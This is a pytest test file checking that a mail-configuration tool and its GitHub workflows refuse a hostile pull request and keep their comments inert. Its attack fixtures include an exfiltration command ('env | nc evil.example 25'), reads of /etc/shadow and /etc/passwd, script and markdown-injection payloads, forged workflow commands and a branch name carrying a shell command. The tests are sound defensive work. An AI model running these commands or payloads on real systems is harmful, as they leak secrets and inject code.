"""A pull request from somebody who means harm gets refusals, and its words do nothing wherever they are shown."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

GITHUB = Path(__file__).parents[2] / "templates/github"
POLICY = """\
policy:
  allowed_recipients: ["*@acme.example"]
  test_recipients: [postmaster@acme.example]
  thresholds: {deletions: 0, allow_deactivation: false}
"""
SPEC = """\
version: 1
instance: {{id: acme-hub}}
configurations:
  - name: {name}
    state: active
    host: {host}
    port: 587
    auth: {{username: hub@acme.example, password: {{{secret}}}}}
    from: hub@acme.example
targets:
  - {{name: hub, type: env_file, path: {path}, dialect: systemd}}
{policy}"""
LIMITS = """\
version: 1
secrets: ["env:ACME_*"]
hosts: ["*.acme.example"]
target_paths: ["{folder}/*"]
recipients: ["*@acme.example"]
"""
HONEST = {"name": "Hub", "host": "mail.acme.example", "secret": "env: ACME_SMTP_PASSWORD", "policy": POLICY}
# One character after another that some reader acts on.
NASTY = (
    "x</details><script>alert(1)</script>![i](http://evil.example/i.png) [c](javascript:1) @everyone @acme/owners "
    "``` ~~~ ::error::forged ##[error]forged <!-- mailspec --> https://evil.example www.evil.example"
)


@pytest.fixture
def attacked(repository: Any, tmp_path: Path) -> Any:
    (tmp_path / "targets").mkdir()
    (tmp_path / "limits.yml").write_text(LIMITS.format(folder=tmp_path / "targets"))
    repository.commit("start", {"mailspec.yml": SPEC.format(path=tmp_path / "targets/hub.env", **HONEST)})
    return repository


def hostile(tmp_path: Path, **words: str) -> str:
    return SPEC.format(**{**HONEST, "path": str(tmp_path / "targets/hub.env"), **words})


ATTACKS: list[tuple[str, dict[str, str]]] = [
    ("limits-secrets", {"secret": "env: AWS_SECRET_ACCESS_KEY"}),
    ("limits-secrets", {"secret": "file: /etc/shadow"}),
    ("limits-secrets", {"secret": "command: [sh, -c, 'env | nc evil.example 25']"}),
    ("limits-hosts", {"host": "mail.evil.example"}),
    ("limits-hosts", {"host": "mail.acme.example.evil.example"}),
    ("limits-target-paths", {"path": "/etc/cron.d/mailspec"}),
    ("limits-target-paths", {"path": "{targets}/../../escape.env"}),
    ("policy-loosened", {"policy": "policy: {}\n"}),
    ("policy-loosened", {"policy": POLICY.replace("*@acme.example", "*")}),
    ("policy-loosened", {"policy": POLICY.replace("postmaster@acme.example", "me@evil.example")}),
]
WRITING = [("plan",), ("apply", "--auto-approve")]
SENDING = [("probe",), ("test",)]


@pytest.mark.parametrize(
    ("command", "rule", "words"),
    [(command, *attack) for command in WRITING for attack in ATTACKS]
    # These write no target.
    + [(command, *attack) for command in SENDING for attack in ATTACKS if attack[0] != "limits-target-paths"],
)
def test_what_it_asks_for_is_refused(
    command: tuple[str, ...], rule: str, words: dict[str, str], attacked: Any, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    words = {key: text.replace("{targets}", str(tmp_path / "targets")) for key, text in words.items()}
    attacked.commit("attack", {"mailspec.yml": hostile(tmp_path, **words)})
    env = {"MAILSPEC_LIMITS": str(tmp_path / "limits.yml"), "AWS_SECRET_ACCESS_KEY": "s3cret-of-the-runner"}
    ran = cli(*command, "--base", "HEAD~1", cwd=attacked.folder, env=env)
    # An address that the policy itself does not cover is found before.
    assert ran.code == 5, ran.out + ran.err
    assert f"Refused ({rule})" in ran.err
    assert "s3cret-of-the-runner" not in ran.out + ran.err
    assert not list((tmp_path / "targets").iterdir())
    assert not (attacked.folder / ".mailspec").exists()


def test_a_link_out_of_the_allowed_folder_is_followed_first(
    attacked: Any, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "targets/link").symlink_to(tmp_path / "elsewhere")
    attacked.commit("attack", {"mailspec.yml": hostile(tmp_path, path=str(tmp_path / "targets/link/x.env"))})
    ran = cli("plan", cwd=attacked.folder, env={"MAILSPEC_LIMITS": str(tmp_path / "limits.yml")})
    assert ran.code == 5
    assert "limits-target-paths" in ran.err


@pytest.fixture
def reviewed(attacked: Any, tmp_path: Path, run_github: Any) -> Any:
    """The pull-request job over a change whose names try to break out of everything."""
    base = attacked.git("rev-parse", "HEAD")
    name = "'" + NASTY.replace("'", "''") + "'"
    attacked.commit(
        "attack", {"mailspec.yml": hostile(tmp_path, name=name, host="mail2.acme.example", policy="policy: {}\n")}
    )
    given = {
        "github.event.pull_request.base.sha": base,
        "contains(github.event.pull_request.labels.*.name, 'mailspec-policy-change')": "false",
    }
    return run_github(GITHUB / "pull-request.yml", "review", attacked.folder, given, {})


def test_its_job_refuses_and_its_log_forges_nothing(reviewed: Any, workflow_commands: Any) -> None:
    assert reviewed.code == 5, reviewed.log
    assert "Refused (policy-loosened)" in reviewed.log
    assert not [held for held in workflow_commands(reviewed.log) if "forged" in held.data and held.word == "error"]


def inert(text: str) -> None:
    """Hold a text to what a comment of ours may do: nothing."""
    body = text.partition("\n\n")[2]
    assert not re.search(r"<[A-Za-z/!]", body)
    assert not re.search(r"\]\(|\]\[|\]:", body)
    assert not re.search(r"@\w|&(#0*64|#[xX]0*40|commat)", body)
    assert not re.search(r"#[0-9A-Za-z]|[A-Za-z][0-9A-Za-z]*\\?-[0-9]|GHSA\\?-\w", body)
    assert not re.search(r"(?<![0-9A-Fa-f])[0-9A-Fa-f]{7}", body)
    assert not re.search(r"&(?!(?:lt|gt|amp);)", body)
    assert not re.search(r"(?m)^[ >*+0-9.)-]*(```+|~~~+)[ \t]*(?!text$)[^\s`~]", body)
    assert "://" not in body
    assert "www." not in body.lower()


def test_its_comment_and_its_reports_are_inert(
    reviewed: Any, attacked: Any, tmp_path: Path, comment_of: Callable[[Path], str]
) -> None:
    report = (attacked.folder / "report/report.html").read_text()
    assert "<script>alert" not in report
    # What stands in code is shown as it is and does nothing.
    prose = re.sub(r"(?s)(`+).*?[^`]\1(?!`)", "", reviewed.summary)
    assert "![i](" not in prose
    assert "<script" not in prose
    assert not re.search(r"(^|[^\w.\\-])@everyone", prose)
    comment = comment_of(attacked.folder / "report")
    assert "loosened" in comment
    inert(comment)


ARTEFACTS = {
    "forged": f"<!-- mailspec -->\nApproved by @acme/owners, see [here](https://evil.example)\n{NASTY}\n",
    "html": "<img src=x onerror=alert(1)><details><summary>x</summary></details>\n",
    "reference": "[a]\n\n[a]: https://evil.example\n[b][a]\n![p][a]\n",
    "mentions": ".@alice -@bob _@carol a@dave &#64;erin &#064;erin &#x40;frank &#X0040;frank &commat;grace\n",
    "issues": (
        "Fixes #1, closes acme/mail#2, resolves GH-3 and gh\\-4, ACME-5, AB2-17, &#35;6 \\#8 &amp;#35;9 &#x23;10\n"
    ),
    "commits": (
        "0123abc 0123456789abcdef0123456789abcdef01234567 DEADBEEF acme/mail@0123abcd GHSA-abcd-1234-wxyz CVE-2026-1\n"
    ),
    "drawn": (
        "```mermaid\nflowchart LR\n  a --> b\n```\n> ~~~ geojson\n> {}\n> ~~~\n- ```&#109;ermaid\n  x\n  ```\n"
        "1. ````\tstl\n````\n~~~suggestion:-0+0\nx\n~~~\n"
    ),
    "control": "a\x00b\x1b[31mred\x07\r\nz\n",
    "huge": "@x " * 100_000,
    "bytes": b"\xff\xfe\xc3\x28 @everyone\n",
    "empty": "",
}


@pytest.mark.parametrize("name", ARTEFACTS)
def test_whatever_lies_in_the_artefact_only_text_is_shown(
    name: str, tmp_path: Path, comment_of: Callable[[Path], str]
) -> None:
    folder = tmp_path / "artefact"
    folder.mkdir()
    held = ARTEFACTS[name]
    (folder / "comment.md").write_bytes(held if isinstance(held, bytes) else held.encode())
    comment = comment_of(folder)
    inert(comment)
    assert re.match(r"<!-- mailspec -->\n_From the pull request's own run, [^\n]*: http\S+_\n", comment)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", comment)
    assert len(comment) < 65_536, "GitHub's limit is in characters"


def test_a_link_in_the_artefact_is_not_followed(tmp_path: Path, comment_of: Callable[..., str]) -> None:
    folder = tmp_path / "artefact"
    folder.mkdir()
    os.symlink("/etc/passwd", folder / "comment.md")
    assert comment_of(folder, code=1) == ""


@pytest.fixture
def comment_of(tmp_path: Path, run_github: Any) -> Callable[..., str]:
    """Run comment.yml over an artefact, with a ``gh`` that keeps what would be posted."""

    def run(artefact: Path, *, code: int = 0) -> str:
        folder = tmp_path / "commenting"
        folder.mkdir()
        shutil.copytree(artefact, folder / "untrusted", symlinks=True)
        tools = tmp_path / "tools"
        tools.mkdir()
        script = '#!/bin/sh\ncase "$*" in *" GET "*) echo 7;; *POST*issues/7/*) cp comment.md posted.md;; esac\n'
        (tools / "gh").write_text(script)
        (tools / "gh").chmod(0o755)
        event = "github.event.workflow_run."
        given = {
            f"{event}html_url": "https://github.example/acme/mail/actions/runs/1",
            "github.token": "none",
            f"{event}head_repository.owner.login": "x",
            # A branch's name is the stranger's as well.
            f"{event}head_branch": '$(touch hacked)"; touch hacked #',
            f"{event}head_sha": "0" * 40,
        }
        env = {"GITHUB_REPOSITORY": "acme/mail", "PATH": f"{tools}:{os.environ['PATH']}"}
        ran = run_github(GITHUB / "comment.yml", "comment", folder, given, env)
        assert ran.code == code, ran.log
        assert not (folder / "hacked").exists()
        posted = folder / "posted.md"
        return posted.read_text(encoding="utf-8") if posted.exists() else ""

    return run
